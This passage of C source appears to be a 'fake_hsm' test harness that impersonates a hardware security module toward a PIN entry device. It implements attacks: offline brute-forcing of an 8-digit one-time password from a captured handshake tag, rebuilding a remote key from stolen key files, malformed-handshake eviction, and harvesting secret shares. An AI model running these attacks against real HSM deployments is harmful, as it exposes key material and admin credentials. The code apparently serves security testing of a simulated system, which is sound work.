			r = PED_E_CLOSED;
		else if (*rt == PED_REC_CSP)
			r = ped_channel_unwrap_csp(c->ch, plain, plen, pt, len);
		else {
			*pt = plain;
			*len = plen;
			plain = NULL;
		}
	}
	if (plain)
		OPENSSL_clear_free(plain, plen ? plen : 1);
	OPENSSL_clear_free(p, pl ? pl : 1);
	return r;
}

struct ask {
	const char *name;
	uint8_t op, type;
	const char *title, *prompt, *colour;
};

static const struct ask asks[] = {
	{"so", PED_APP_AUTH, PED_KEY_SO, "SO LOGIN...", "SO / HSM Admin", "BLUE"},
	{"domain", PED_APP_AUTH, PED_KEY_DOMAIN, "READING DOMAIN...", "Domain", "RED"},
	{"rpv", PED_APP_AUTH, PED_KEY_RPV, "READING RPV...", "RPK / Remote", "ORANGE"},
	{"user", PED_APP_AUTH, PED_KEY_USER, "CO LOGIN...", "Crypto Officer", "BLACK"},
	{"audit", PED_APP_AUTH, PED_KEY_AUDIT, "AU LOGIN...", "Audit User", "WHITE"},
	{"new-so", PED_APP_CREATE, PED_KEY_SO, "SETTING SO PIN...", "SO / HSM Admin", "BLUE"},
	{"new-domain", PED_APP_CREATE, PED_KEY_DOMAIN, "SETTING DOMAIN...", "Domain", "RED"},
	{"new-rpv", PED_APP_CREATE, PED_KEY_RPV, "SETTING RPV...", "RPK / Remote", "ORANGE"},
	{"new-user", PED_APP_CREATE, PED_KEY_USER, "SETTING CO PIN...", "Crypto Officer", "BLACK"},
	{"new-audit", PED_APP_CREATE, PED_KEY_AUDIT, "SETTING AU PIN...", "Audit User", "WHITE"},
};

/* new-rpv: the RPV static key, its certificate (from our HOC) and our HOC. */
static int rpv_key_msg(uint8_t **out, size_t *olen)
{
	EVP_PKEY *k = NULL;
	X509 *cert = NULL;
	uint8_t scalar[PED_EC_SCALAR_LEN], *der = NULL;
	size_t dl = 0;
	char cn[64];
	int r;
	snprintf(cn, sizeof(cn), "RPV %.40s", O.serial);
	if ((r = ped_ec_generate(&k)) == PED_OK && (r = ped_ec_priv_export(k, scalar)) == PED_OK &&
	    (r = ped_cert_issue(I.hoc, I.hoc_key, k, cn, &cert)) == PED_OK && (r = ped_cert_to_der(cert, &der, &dl)) == PED_OK)
		r = ped_app_encode_rpv_key(scalar, der, dl, I.hoc_der, I.hoc_len, out, olen);
	OPENSSL_cleanse(scalar, sizeof(scalar));
	OPENSSL_free(der);
	X509_free(cert);
	EVP_PKEY_free(k);
	return r;
}

/* One request; PED_OK while the channel lives. */
static int run_ask(struct conn *c, const struct ask *a)
{
	struct ped_app_request req;
	uint8_t *m = NULL, rt, *pt = NULL, secret[HSM_SECRET_LEN];
	size_t ml = 0, ptl = 0;
	char matched[128] = "none", result[64] = "";
	unsigned got_splits = 0, got_csps = 0, got_written = 0;
	int r;

	memset(&req, 0, sizeof(req));
	req.op = a->op;
	req.key_type = a->type;
	req.allow_reuse = a->op == PED_APP_CREATE;
	snprintf(req.title, sizeof(req.title), "%s", a->title);
	snprintf(req.prompt, sizeof(req.prompt), "%s", a->prompt);
	snprintf(req.colour, sizeof(req.colour), "%s", a->colour);
	if ((r = ped_app_encode_request(&req, &m, &ml)) != PED_OK || (r = send_rec(c, PED_REC_DATA, m, ml)) != PED_OK)
		goto out;
	OPENSSL_clear_free(m, ml);
	m = NULL;
	if (a->op == PED_APP_CREATE) {
		if (RAND_priv_bytes(secret, sizeof(secret)) != 1) {
			r = PED_E_CRYPTO;
			goto out;
		}
		if ((r = ped_app_encode_secret(PED_APP_SECRET, secret, sizeof(secret), &m, &ml)) != PED_OK ||
		    (r = send_rec(c, PED_REC_CSP, m, ml)) != PED_OK)
			goto out;
		OPENSSL_clear_free(m, ml);
		m = NULL;
		if (a->type == PED_KEY_RPV &&
		    ((r = rpv_key_msg(&m, &ml)) != PED_OK || (r = send_rec(c, PED_REC_CSP, m, ml)) != PED_OK))
			goto out;
	}
	if ((r = recv_rec(c, &rt, &pt, &ptl)) != PED_OK)
		goto out;
	if (rt == PED_REC_CSP && ptl && pt[0] == PED_APP_SPLITS) {
		struct ped_app_splits sp;
		got_csps = 1;
		if (ped_app_decode_splits(pt, ptl, &sp) == PED_OK) {
			struct ped_share sh[PED_APP_MAX_SPLITS];
			got_splits = sp.count;
			for (unsigned i = 0; i < sp.count; i++)
				sh[i] = (struct ped_share){sp.s[i].index, sp.s[i].share};
			uint8_t whole[PED_APP_SECRET_MAX];
			if (sp.count && ped_shamir_combine(sh, sp.count, sp.s[0].m, sp.s[0].share_len, whole) == PED_OK)
				match_secret(whole, sp.s[0].share_len, matched, sizeof(matched));
			else
				snprintf(matched, sizeof(matched), "too-few-splits");
			OPENSSL_cleanse(whole, sizeof(whole));
			OPENSSL_cleanse(&sp, sizeof(sp));
		}
		snprintf(result, sizeof(result), "splits");
	} else if (rt == PED_REC_CSP && ptl && pt[0] == PED_APP_REUSED) {
		struct ped_app_created ci;
		const uint8_t *s;
		size_t sl;
		got_csps = 1;
		if (ped_app_decode_reused(pt, ptl, &ci, &s, &sl) == PED_OK)
			match_secret(s, sl, matched, sizeof(matched));
		snprintf(result, sizeof(result), "reused");
	} else if (rt == PED_REC_DATA && ptl && pt[0] == PED_APP_CREATED) {
		struct ped_app_created ci;
		if (ped_app_decode_created(pt, ptl, &ci) == PED_OK)
			got_written = ci.n;
		snprintf(result, sizeof(result), "created");
	} else if (rt == PED_REC_DATA && ptl && pt[0] == PED_APP_RESULT) {
		uint32_t code = 0;
		(void)ped_app_decode_result(pt, ptl, &code);
		snprintf(result, sizeof(result), "%s", ped_err_name(ped_err_from_code(code)));
	} else {
		snprintf(result, sizeof(result), "unexpected");
	}
out:
	OPENSSL_cleanse(secret, sizeof(secret));
	if (m)
		OPENSSL_clear_free(m, ml);
	if (pt)
		OPENSSL_clear_free(pt, ptl ? ptl : 1);
	if (r != PED_OK)
		snprintf(result, sizeof(result), "%s", c->bye != PED_OK ? ped_err_name(c->bye) : ped_err_name(r));
	T.splits += got_splits;
	T.csps += got_csps;
	T.written += got_written;
	printf("request=%s op=%s result=%s splits=%u csps=%u written=%u match=%s\n", a->name,
	       a->op == PED_APP_AUTH ? "auth" : "create", result, got_splits, got_csps, got_written, matched);
	fflush(stdout);
	return r;
}

static void run_asks(struct conn *c)
{
	char list[sizeof(O.ask)], *save = NULL;
	snprintf(list, sizeof(list), "%s", O.ask);
	for (char *n = strtok_r(list, ",", &save); n; n = strtok_r(NULL, ",", &save)) {
		const struct ask *a = NULL;
		for (size_t i = 0; i < sizeof(asks) / sizeof(asks[0]); i++)
			if (!strcmp(asks[i].name, n))
				a = &asks[i];
		if (!a) {
			fprintf(stderr, "fake_hsm: unknown request '%s'\n", n);
			exit(2);
		}
		if (run_ask(c, a) != PED_OK)
			break; /* the channel is gone */
	}
}

static void print_result(const char *attack, const struct conn *c, const char *extra)
{
	printf("attack=%s ped=%s keyed=%d scheme=%s splits=%u csps=%u logins=%u so_secret_match=%d matches=%s "
	       "written=%u why=%s%s%s\n",
	       attack, c->ped[0] ? c->ped : "-", T.keyed, T.scheme == PED_KAS_2E2S ? "2e2s" : "1e1s", T.splits, T.csps, T.logins, T.so_match,
	       T.matches[0] ? T.matches : "none", T.written, T.why, extra ? " " : "", extra ? extra : "");
	fflush(stdout);
}

/* pedserver refused the session (r): that is the attack's result, unless
 * pedserver could not be reached at all. */
static int refused(const char *attack, const struct conn *c, int r, const char *extra)
{
	if (!c->reached)
		return r;
	snprintf(T.why, sizeof(T.why), "%s", ped_err_name(r));
	print_result(attack, c, extra);
	return PED_OK;
}

static void set_why(const struct conn *c, int r)
{
	snprintf(T.why, sizeof(T.why), "%s", ped_err_name(c->bye != PED_OK ? c->bye : r));
}

/* A 1e1s session keyed with a secret we know; then the requests. */
static int keyed_session(const char *attack, uint8_t auth, const uint8_t *secret, size_t slen)
{
	struct conn c;
	struct hs h;
	int r;

	memset(&h, 0, sizeof(h));
	if ((r = conn_dial(&c, auth, 0)) != PED_OK)
		return refused(attack, &c, r, NULL);
	if ((r = send_hello(&c, &h, PED_KAS_1E1S)) == PED_OK && (r = read_u(&c, &h, O.timeout_ms)) == PED_OK &&
	    (r = finish_v(&c, &h, secret, slen)) == PED_OK) {
		T.keyed = 1;
		run_asks(&c);
	}
	set_why(&c, r);
	print_result(attack, &c, NULL);
	conn_close(&c);
	hs_free(&h);
	return PED_OK;
}

/* ---- the attacks ------------------------------------------------------------ */

static int attack_otp_known(void)
{
	if (!O.password || strlen(O.password) != 8 || strspn(O.password, "0123456789") != 8)
		usage();
	return keyed_session("otp-known", PED_RELAY_AUTH_OTP, (const uint8_t *)O.password, 8);
}

static int attack_otp_crack(void)
{
	struct conn c;
	struct hs h;
	char extra[256];
	int r, same = 0;

	memset(&h, 0, sizeof(h));
	if ((r = conn_dial(&c, PED_RELAY_AUTH_OTP, 0)) != PED_OK)
		return refused("otp-crack", &c, r, "tag=0 password_found=0");
	if ((r = send_hello(&c, &h, PED_KAS_1E1S)) != PED_OK || (r = read_u(&c, &h, O.timeout_ms)) != PED_OK) {
		set_why(&c, r);
		print_result("otp-crack", &c, "tag=0 password_found=0");
		conn_close(&c);
		hs_free(&h);
		return PED_OK;
	}
	fprintf(stderr, "fake_hsm: tag_U captured from PED %s; searching %u-%u on %d threads\n", c.ped, O.hint_lo,
		O.hint_hi, O.threads);
	double cpu0 = cpu_s();
	if ((r = crack_start(&h)) != PED_OK) {
		fprintf(stderr, "fake_hsm: %s\n", ped_strerror(r));
		exit(2);
	}
	/* Hold the first session while the search runs, up to -window seconds:
	 * the PED waits for CONFIRM_V meanwhile (its link timeout). */
	double hold_until = now_s() + O.window;
	int alive = 1;
	while (!crack_finished()) {
		if (alive && now_s() >= hold_until) {
			/* too slow for this session: the operator reads "wrong password" */
			send_alert(&c, PED_E_KEY_CONFIRM);
			conn_close(&c);
			alive = 0;
		}
		if (alive) {
			if (conn_idle(&c, 100) != PED_OK) {
				conn_close(&c);
				alive = 0;
			}
		} else {
			struct timespec ts = {0, 50 * 1000000L};
			nanosleep(&ts, NULL);
		}
	}
	crack_join();
	double secs = C.ended - C.started, cpu = cpu_s() - cpu0;
	uint64_t guesses = atomic_load(&C.guesses);
	int found = atomic_load(&C.found);
	fprintf(stderr, "fake_hsm: search %s after %.1f s, %llu guesses\n", found ? "found the password" : "failed",
		secs, (unsigned long long)guesses);
	if (found && alive) {
		same = 1;
		r = finish_v(&c, &h, (const uint8_t *)C.pw, 8);
	} else if (found) {
		/* a second session: the operator types the password again */
		conn_close(&c);
		hs_free(&h);
		memset(&h, 0, sizeof(h));
		if ((r = conn_dial(&c, PED_RELAY_AUTH_OTP, 0)) == PED_OK && (r = send_hello(&c, &h, PED_KAS_1E1S)) == PED_OK &&
		    (r = read_u(&c, &h, O.timeout_ms)) == PED_OK)
			r = finish_v(&c, &h, (const uint8_t *)C.pw, 8);
	} else {
		if (alive)
			send_alert(&c, PED_E_KEY_CONFIRM);
		r = PED_E_KEY_CONFIRM;
	}
	if (found && r == PED_OK) {
		T.keyed = 1;
		run_asks(&c);
	}
	set_why(&c, r);
	/* what searching the whole range would take at the rate measured, in
	 * seconds and in CPU seconds (the second does not depend on the load) */
	double rate = secs > 0 ? (double)guesses / secs : 0.0, range = (double)O.hint_hi - O.hint_lo + 1;
	snprintf(extra, sizeof(extra),
		 "tag=1 password_found=%d crack_s=%.1f guesses=%llu rate=%.0f range_s=%.0f cpu_s=%.1f range_cpu_s=%.0f "
		 "threads=%d same_session=%d",
		 found, secs, (unsigned long long)guesses, rate, rate > 0 ? range / rate : 0.0, cpu,
		 guesses ? cpu * range / (double)guesses : 0.0, O.threads, same);
	print_result("otp-crack", &c, extra);
	conn_close(&c);
	hs_free(&h);
	OPENSSL_cleanse(C.pw, sizeof(C.pw));
	return PED_OK;
}

/* The RPV from stolen orange key files (PIN-less: the share is in clear). */
static int stolen_rpv(uint8_t *rpv, size_t *len)
{
	struct ped_share sh[MAX_ORANGE];
	struct ikey k[MAX_ORANGE];
	unsigned m = 0;
	int r = PED_OK, n = 0;

	memset(k, 0, sizeof(k));
	for (int i = 0; i < O.norange; i++) {
		FILE *f = fopen(O.orange[i], "rb");
		uint8_t buf[IKEY_FILE_MAX + 1];
		size_t bl = f ? fread(buf, 1, sizeof(buf), f) : 0;
		char why[512] = "";
		if (f)
			fclose(f);
		if (!f || ikey_decode(buf, bl, &k[n], why, sizeof(why)) != PED_OK || k[n].s.type != IKEY_RPV) {
			fprintf(stderr, "fake_hsm: %s: not an orange key (%s)\n", O.orange[i], why[0] ? why : strerror(errno));
			r = PED_E_INVALID;
			goto out;
		}
		fprintf(stderr, "fake_hsm: stolen orange key %s: split %u of %u (M %u), PIN %s, RPV static key %s, HOC %s\n",
			k[n].serial, k[n].s.index, k[n].s.n, k[n].s.m, k[n].s.pin_set ? "set" : "none",
			k[n].s.static_priv ? "yes" : "no", k[n].s.hoc_cert ? "yes" : "no");
		if (k[n].s.pin_set) {
			fprintf(stderr, "fake_hsm: %s: its split is masked with a PIN\n", O.orange[i]);
			r = PED_E_PIN_INCORRECT;
			goto out;
		}
		sh[n] = (struct ped_share){k[n].s.index, k[n].s.share};
		m = k[n].s.m;
		*len = k[n].s.share_len;
		n++;
	}
	if (!n)
		usage();
	r = ped_shamir_combine(sh, (size_t)n, m, *len, rpv);
out:
	for (int i = 0; i < MAX_ORANGE; i++)
		ikey_clear(&k[i]);
	return r;
}

static int attack_downgrade(void)
{
	uint8_t rpv[IKEY_SHARE_MAX];
	size_t len = 0;
	int r = stolen_rpv(rpv, &len);
	if (r != PED_OK) {
		fprintf(stderr, "fake_hsm: no RPV from the stolen key: %s\n", ped_strerror(r));
		return PED_E_INVALID;
	}
	char m[64];
	match_secret(rpv, len, m, sizeof(m));
	fprintf(stderr, "fake_hsm: RPV recovered from the stolen key (%zu bytes)%s\n", len,
		strstr(m, "rpv") ? ", the HSM's own" : "");
	tally_reset(); /* the stolen RPV is not something the PED gave */
	r = keyed_session("downgrade", PED_RELAY_AUTH_RPV, rpv, len);
	OPENSSL_cleanse(rpv, sizeof(rpv));
	return r;
}

/* One hostile handshake against a PED that holds the HSM's RPK. */
static int evict_once(const char *mode)
{
	struct conn c;
	struct hs h;
	int scheme_2e2s = !strcmp(mode, "scheme") || !strcmp(mode, "cert") || !strcmp(mode, "hello") ||
			  !strcmp(mode, "realcert");
	int r;
	char extra[96];

	tally_reset();
	memset(&h, 0, sizeof(h));
	/* as the real HSM asks (2e2s), unless the mode needs the PED in 1e1s */
	snprintf(extra, sizeof(extra), "mode=%s", mode);
	if ((r = conn_dial(&c, PED_RELAY_AUTH_RPV, scheme_2e2s ? PED_RELAY_F_2E2S : 0)) != PED_OK)
		return refused("rpk-evict", &c, r, extra);
	if (!strcmp(mode, "scheme")) {
		/* the OPEN says 2e2s, the HELLO_V 1e1s */
		r = send_hello(&c, &h, PED_KAS_1E1S);
	} else if (!strcmp(mode, "cert")) {
		/* 2e2s with a certificate from our own HOC */
		r = send_hello(&c, &h, PED_KAS_2E2S);
	} else if (!strcmp(mode, "realcert")) {
		/* 2e2s showing the real HSM's HOC and static certificate (public):
		 * the PED accepts them and sends its share and tag; without the
		 * static private key only a wrong CONFIRM_V can follow */
		if (!real_hsm && (r = load_real()) != PED_OK) {
			fprintf(stderr, "fake_hsm: realcert needs -state\n");
			return r;
		}
		show_cert = real_hsm->static_cert;
		show_cert_len = real_hsm->static_cert_len;
		show_hoc = real_hsm->hoc_cert;
		show_hoc_len = real_hsm->hoc_cert_len;
		r = send_hello(&c, &h, PED_KAS_2E2S);
		show_cert = show_hoc = NULL;
		for (int i = 0; i < 2 && r == PED_OK; i++) {
			uint8_t type, *p = NULL;
			size_t len = 0;
			if ((r = conn_recv(&c, &type, &p, &len, O.timeout_ms)) == PED_OK && (type != PED_LINK_KAS || !len ||
									      p[0] == PED_KAS_ALERT))
				r = PED_E_HANDSHAKE;
			if (p)
				OPENSSL_clear_free(p, len ? len : 1);
		}
		if (r == PED_OK) {
			uint8_t bad[1 + PED_KAS_TAG_LEN];
			bad[0] = PED_KAS_CONFIRM_V;
			(void)RAND_bytes(bad + 1, PED_KAS_TAG_LEN);
			(void)send_kas(&c, bad, sizeof(bad));
		}
	} else if (!strcmp(mode, "hello")) {
		/* a HELLO_V cut short: no nonce or key */
		uint8_t cut[8] = {PED_KAS_HELLO_V, PED_KAS_PROTO_VERSION, PED_KAS_2E2S, 0, 2, 'H', 'S', 0};
		r = send_kas(&c, cut, sizeof(cut));
	} else {
		/* 1e1s: the PED keys with its cached RPV and sends its tag first */
		if ((r = send_hello(&c, &h, PED_KAS_1E1S)) == PED_OK && (r = read_u(&c, &h, O.timeout_ms)) == PED_OK) {
			if (!strcmp(mode, "alert")) {
				send_alert(&c, PED_E_KEY_CONFIRM);
			} else {
				uint8_t bad[1 + PED_KAS_TAG_LEN];
				bad[0] = PED_KAS_CONFIRM_V;
				(void)RAND_bytes(bad + 1, PED_KAS_TAG_LEN);
				(void)send_kas(&c, bad, sizeof(bad));
			}
		}
	}
	/* what the PED says back: an ALERT, pedserver's BYE, or nothing */
	uint8_t type, *p = NULL;
	size_t len = 0;
	int said = PED_OK;
	for (int i = 0; i < 4 && r == PED_OK; i++) {
		int q = conn_recv(&c, &type, &p, &len, 5000);
		if (q != PED_OK) {
			/* an ALERT's reason first, else the BYE's, else the silence */
			if (said == PED_OK)
				said = c.bye != PED_OK ? c.bye : q;
			break;
		}
		if (type == PED_LINK_KAS && len && p[0] == PED_KAS_ALERT && said == PED_OK)
			said = ped_kas_alert_error(p, len);
		OPENSSL_clear_free(p, len ? len : 1);
		p = NULL;
	}
	set_why(&c, r != PED_OK ? r : said);
	print_result("rpk-evict", &c, extra);
	conn_close(&c);
	hs_free(&h);
	return PED_OK;
}

static int attack_rpk_evict(void)
{
	static const char *const modes[] = {"scheme", "hello", "confirm", "alert", "cert", "realcert"};
	if (strcmp(O.mode, "all"))
		return evict_once(O.mode);
	for (size_t i = 0; i < sizeof(modes) / sizeof(modes[0]); i++) {
		int r = evict_once(modes[i]);
		if (r != PED_OK)
			return r;
	}
	return PED_OK;
}

int main(int argc, char **argv)
{
	for (int i = 1; i < argc; i++) {
		const char *a = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;
		if (!v)
			usage();
		i++;
		if (!strcmp(a, "-connect")) {
			const char *colon = strrchr(v, ':');
			if (!colon || colon == v || (size_t)(colon - v) >= sizeof(O.host))
				usage();
			memcpy(O.host, v, (size_t)(colon - v));
			O.port = (uint16_t)atoi(colon + 1);
		} else if (!strcmp(a, "-serial")) {
			snprintf(O.serial, sizeof(O.serial), "%s", v);
		} else if (!strcmp(a, "-attack")) {
			O.attack = v;
		} else if (!strcmp(a, "-password")) {
			O.password = v;
		} else if (!strcmp(a, "-hint")) {
			unsigned lo, hi;
			if (sscanf(v, "%u-%u", &lo, &hi) != 2 || lo > hi || hi >= PW_SPACE)
				usage();
			O.hint_lo = lo;
			O.hint_hi = hi;
		} else if (!strcmp(a, "-threads")) {
			O.threads = atoi(v);
		} else if (!strcmp(a, "-window")) {
			O.window = atof(v);
		} else if (!strcmp(a, "-orange")) {
			if (O.norange == MAX_ORANGE)
				usage();
			O.orange[O.norange++] = v;
		} else if (!strcmp(a, "-state")) {
			O.state = v;
		} else if (!strcmp(a, "-show")) {
			O.show = v;
		} else if (!strcmp(a, "-ask")) {
			snprintf(O.ask, sizeof(O.ask), "%s", v);
		} else if (!strcmp(a, "-mode")) {
			O.mode = v;
		} else if (!strcmp(a, "-timeout")) {
			O.timeout_ms = atoi(v) * 1000;
		} else {
			usage();
		}
	}
	if (!O.host[0] || !O.port || !O.serial[0] || !O.attack)
		usage();
	if (O.threads <= 0) {
		long n = sysconf(_SC_NPROCESSORS_ONLN);
		O.threads = n > 0 ? (int)n : 1;
	}
	if (O.threads > 256)
		O.threads = 256;
	tally_reset();
	make_identity();
	if (O.show) {
		/* the line hsm-sim prints at ped connect -password, for this fake:
		 * what a phished operator would be shown and compare */
		char fpr[PED_CERT_FPR_LEN + 1];
		FILE *f = fopen(O.show, "w");
		if (!f || ped_cert_fingerprint(I.hoc_der, I.hoc_len, fpr) != PED_OK) {
			fprintf(stderr, "fake_hsm: cannot write %s\n", O.show);
			return 2;
		}
		fprintf(f, "HSM %s identity: HOC fingerprint %s\n", O.serial, fpr);
		fclose(f);
	}
	int r = PED_OK;
	if (!strcmp(O.attack, "otp-known"))
		r = attack_otp_known();
	else if (!strcmp(O.attack, "otp-crack"))
		r = attack_otp_crack();
	else if (!strcmp(O.attack, "downgrade"))
		r = attack_downgrade();
	else if (!strcmp(O.attack, "rpk-evict"))
		r = attack_rpk_evict();
	else
		usage();
	if (real_hsm) {
		hsm_cleanse(real_hsm);
		free(real_hsm);
	}
	EVP_PKEY_free(I.key);
	EVP_PKEY_free(I.hoc_key);
	X509_free(I.cert);
	X509_free(I.hoc);
	OPENSSL_free(I.cert_der);
	OPENSSL_free(I.hoc_der);
	return r == PED_OK ? 0 : 2;
}
